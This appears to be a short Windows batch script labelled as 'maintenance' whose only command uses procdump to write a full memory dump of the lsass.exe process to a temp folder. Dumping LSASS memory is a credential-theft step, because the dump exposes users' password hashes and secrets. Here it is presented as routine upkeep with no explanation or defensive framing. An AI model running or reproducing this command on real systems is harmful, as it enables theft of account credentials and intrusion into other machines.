REM maintenance 5291 v1
procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp
